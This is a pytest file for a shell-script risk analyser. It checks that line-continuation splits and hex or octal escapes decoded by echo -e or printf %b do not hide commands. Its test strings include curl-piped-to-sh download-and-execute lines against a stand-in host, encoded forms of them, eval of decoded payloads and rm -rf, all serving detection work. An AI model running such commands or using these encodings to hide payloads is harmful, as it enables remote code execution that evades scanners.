"""Two things the shell does to a text before it runs it, which the analysis must do too
(issue 41): a backslash-newline outside single quotes joins the lines (``cu\\<newline>rl``
is ``curl``), and ``echo -e`` / ``printf %b`` write their escapes decoded. Each through the
public :func:`agbom.analysis.analyse`, with the places where the shell does neither."""

from __future__ import annotations

import pytest

from agbom.analysis import analyse, risks


def _programs(text: str) -> list[str]:
    return [c.program for c in analyse(text).commands]


@pytest.mark.parametrize(
    ("text", "program"),
    [
        ("cu\\\nrl -s https://x.example/i\n", "curl"),
        ('w"g\\\net" -q https://x.example/i\n', "wget"),  # inside double quotes too
        ("x=$((1 << 2)); ba\\\nsh -c id\n", "bash"),  # a shift is not a here-document
        ("cat <<EOF\nbody\nEOF\nr\\\nm -rf /tmp/x\n", "rm"),  # after a here-document
    ],
)
def test_a_word_split_by_a_continuation_is_one_word(text: str, program: str) -> None:
    assert program in _programs(text)


@pytest.mark.parametrize(
    "text",
    [
        "echo 'cu\\\nrl x'\n",  # single quotes keep it
        "echo $'cu\\\nrl x'\n",  # so does $'…'
        "true # cu\\\nrl\n",  # a comment ends at the newline
        "cat <<'EOF'\ncu\\\nrl\nEOF\n",  # a quoted here-document's body is kept
    ],
)
def test_a_continuation_the_shell_keeps_is_kept(text: str) -> None:
    assert "curl" not in _programs(text)


def test_positions_are_those_of_the_original_text() -> None:
    text = "#!/bin/sh\ncu\\\nrl -s https://x.example/i \\\n | s\\\nh\n"
    analysis = analyse(text)
    curl = next(c for c in analysis.commands if c.program == "curl")
    assert text[curl.start : curl.end] == "cu\\\nrl -s https://x.example/i"
    (risk,) = [r for r in risks(analysis) if r.check == "download-exec"]
    assert text[risk.start : risk.end] == "s\\\nh"
    assert text[risk.source_start :].startswith("cu\\\nrl")


_HEXED = "".join(f"\\x{b:02x}" for b in b"curl -s https://x.example/i | sh")
_OCTAL = "".join(f"\\0{b:03o}" for b in b"curl -s https://x.example/i | sh")


@pytest.mark.parametrize(
    "text",
    [
        f'echo -e "{_HEXED}" | bash',
        f"echo -ne '{_HEXED}' | sh",
        f'echo "{_OCTAL}" | sh',  # an XSI echo (sh's) decodes escapes unasked
        f'printf %b "{_HEXED}" | sh',
        f"eval \"$(echo -e '{_HEXED}')\"",
        f"x=$(printf '%b' '{_OCTAL}'); bash -c \"$x\"",
        f"echo -e '{_HEXED}' > /tmp/s.sh; sh /tmp/s.sh",
    ],
)
def test_escapes_decoded_by_echo_or_printf_and_run_are_read_again(text: str) -> None:
    checks = {r.check for r in risks(analyse(text))}
    assert "decode-exec" in checks, text
    if "/tmp/s.sh" not in text:  # a file run is not read again: its content is not kept
        assert "download-exec" in checks, text  # the decoded pipe, parsed


@pytest.mark.parametrize(
    "text",
    [
        'echo -e "\\x1b[1;32mok\\x1b[0m" | cat',  # a colour code
        "echo -e 'cd build\\nmake test' | bash",  # plain lines, no encoded words
        f"echo -E '{_HEXED}' | sh",  # -E: escapes are not decoded
        f"echo -e {_HEXED} | sh",  # unquoted: the shell strips each backslash first
        f"printf %s '{_HEXED}' | sh",  # %s: written as it is
    ],
)
def test_escapes_that_decode_to_no_command_are_not_a_decoded_payload(text: str) -> None:
    assert "decode-exec" not in {r.check for r in risks(analyse(text))}, text
